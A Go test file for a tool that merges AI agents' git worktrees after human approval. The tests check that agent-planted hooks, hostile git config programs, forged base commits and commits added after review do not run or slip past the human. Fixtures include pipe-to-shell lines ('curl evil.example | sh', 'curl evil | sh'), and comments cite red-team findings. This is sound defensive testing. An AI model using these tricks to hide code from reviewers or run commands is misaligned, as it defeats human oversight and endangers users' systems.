package worktree

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestMergeBringsTheBranchIn(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "other.txt"), "main moved on\n")
	commit(t, repo, "main work")
	// A hook an agent could have left in the shared .git: not run.
	marker := filepath.Join(t.TempDir(), "hook-ran")
	write(t, filepath.Join(repo, ".git", "hooks", "pre-merge-commit"), "#!/bin/sh\ntouch "+marker+"\n")
	if err := os.Chmod(filepath.Join(repo, ".git", "hooks", "pre-merge-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	m, err := Merge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if m.Into != "main" || m.Commit == "" || m.Files != 1 {
		t.Fatalf("Merge = %+v", m)
	}
	if read(t, filepath.Join(repo, "feature.go")) != "package x\n" {
		t.Fatal("the agent's file is not in the checkout")
	}
	if parents := strings.Fields(run(t, repo, "log", "-1", "--format=%P")); len(parents) != 2 {
		t.Fatalf("not a merge commit: parents %v", parents)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the repository's hook ran")
	}
	// Merged already: nothing to do.
	if m, err := Merge(tr, ""); err != nil || m.Commit != "" {
		t.Fatalf("second merge: %+v, %v", m, err)
	}
}

func TestMergeChangesNothingOnConflict(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "README"), "agent's words\n")
	commit(t, tr.Path, "agent edits README")
	write(t, filepath.Join(repo, "README"), "human's words\n")
	head := commit(t, repo, "human edits README")
	_, err := Merge(tr, "")
	if !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), "README") {
		t.Fatalf("conflict: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head || run(t, repo, "status", "--porcelain") != "" {
		t.Fatal("the checkout changed")
	}
	if read(t, filepath.Join(repo, "README")) != "human's words\n" {
		t.Fatal("README changed")
	}
}

func TestMergeRefusesADirtyOrDetachedCheckout(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "README"), "unsaved\n")
	if _, err := Merge(tr, ""); !errors.Is(err, ErrDirtyCheckout) {
		t.Fatalf("dirty: %v", err)
	}
	run(t, repo, "checkout", "-q", "--", "README")
	run(t, repo, "checkout", "-q", "--detach")
	if _, err := Merge(tr, ""); !errors.Is(err, ErrDetachedHead) {
		t.Fatalf("detached: %v", err)
	}
}

// The commit the human was shown is merged, not what the branch holds by
// the time they said yes: a commit the agent adds meanwhile stays out.
func TestMergeTakesTheCommitShown(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "docs.md"), "docs\n")
	commit(t, tr.Path, "docs")
	c, err := Diff(tr)
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(tr.Path, "Makefile"), "all:; curl evil.example | sh\n")
	commit(t, tr.Path, "while the human read the prompt")
	m, err := Merge(tr, c.Head)
	if err != nil || m.Files != 1 {
		t.Fatalf("Merge = %+v, %v", m, err)
	}
	if _, err := os.Stat(filepath.Join(repo, "Makefile")); err == nil {
		t.Fatal("the commit made after the human looked was merged")
	}
	if _, err := Merge(tr, "not-a-commit"); err == nil {
		t.Fatal("a bad commit id merged")
	}
}

// The user's own git config, which agents can write, runs nothing when
// teamlead makes a worktree or merges: a smudge filter given to every file
// through an attributes file, gpg.program with commit signing, an
// fsmonitor and a credential helper set there are not read; the user's name
// and e-mail are (red team 9a, finding 2, through ~/.gitconfig).
func TestUserConfigRunsNothing(t *testing.T) {
	repo := newRepo(t)
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	prog := filepath.Join(dir, "prog.sh")
	write(t, prog, "#!/bin/sh\necho \"$0 $*\" >> "+marker+"\ncat\n")
	if err := os.Chmod(prog, 0o755); err != nil {
		t.Fatal(err)
	}
	attrs := filepath.Join(dir, "attributes")
	write(t, attrs, "* filter=g diff=g\n")
	global := filepath.Join(dir, "gitconfig")
	write(t, global, "[user]\n\tname = Human Person\n\temail = human@example.com\n"+
		"[core]\n\tattributesFile = "+attrs+"\n\tfsmonitor = "+prog+"\n"+
		"[filter \"g\"]\n\tsmudge = "+prog+" smudge\n\tclean = "+prog+" clean\n"+
		"[diff \"g\"]\n\ttextconv = "+prog+" textconv\n"+
		"[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = "+prog+"\n"+
		"[credential]\n\thelper = !"+prog+" credential\n")
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	// The commits stand for the agent's and the human's own git.
	t.Setenv("GIT_CONFIG_GLOBAL", os.DevNull)
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "other.txt"), "main moved on\n")
	commit(t, repo, "main work")
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	for _, k := range []string{"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"} {
		t.Setenv(k, "") // restored after the test
		os.Unsetenv(k)  // the name comes from the user's config
	}
	if _, err := Status(tr); err != nil {
		t.Fatal(err)
	}
	m, err := Merge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("the user's config ran a program in teamlead's git:\n%s", b)
	}
	if who := run(t, repo, "log", "-1", "--format=%an <%ae> %cn", m.Commit); who != "Human Person <human@example.com> Human Person" {
		t.Errorf("merge commit by %q", who)
	}
}

// Of the user's config only settings that run nothing are taken: not
// protocol.ext.allow nor protocol.allow, with which a submodule URL an
// agent wrote ran its command in the console (red team 10a, finding 1).
func TestHarmlessUserKeys(t *testing.T) {
	for key, want := range map[string]bool{
		"user.name": true, "url.git@github.com:.insteadof": true, "protocol.file.allow": true, "protocol.https.allow": true,
		"protocol.ext.allow": false, "protocol.fd.allow": false, "protocol.allow": false, "protocol.EXT.allow": false,
		"filter.lfs.smudge": false, "core.sshcommand": false, "credential.helper": false, "gpg.program": false,
		"include.path": false, "core.fsmonitor": false, "url.x.insteadof.extra": false,
	} {
		if got := harmlessUserKey(key); got != want {
			t.Errorf("%s: %v, want %v", key, got, want)
		}
	}
}

// The base recorded in the worktree's git dir, which the agent writes, is
// not taken when it is not in the user's history: set to the agent's own
// last commit, it hid every commit from the diff the human merges on (red
// team 10a, finding 17).
func TestForgedBaseIsNotTaken(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "ci.yml"), "run: curl evil | sh\n")
	head := commit(t, tr.Path, "sneak a workflow in")
	write(t, filepath.Join(tr.GitDir, "teamlead-base"), head+"\n")
	again := ensure(t, Spec{Repo: repo, Agent: "dev"})
	c, err := Diff(again)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, f := range c.Committed.Files {
		found = found || f.Path == "ci.yml"
	}
	if !found {
		t.Fatalf("the agent's commit is hidden from the diff: base %s, %+v", c.Base, c.Committed)
	}
}
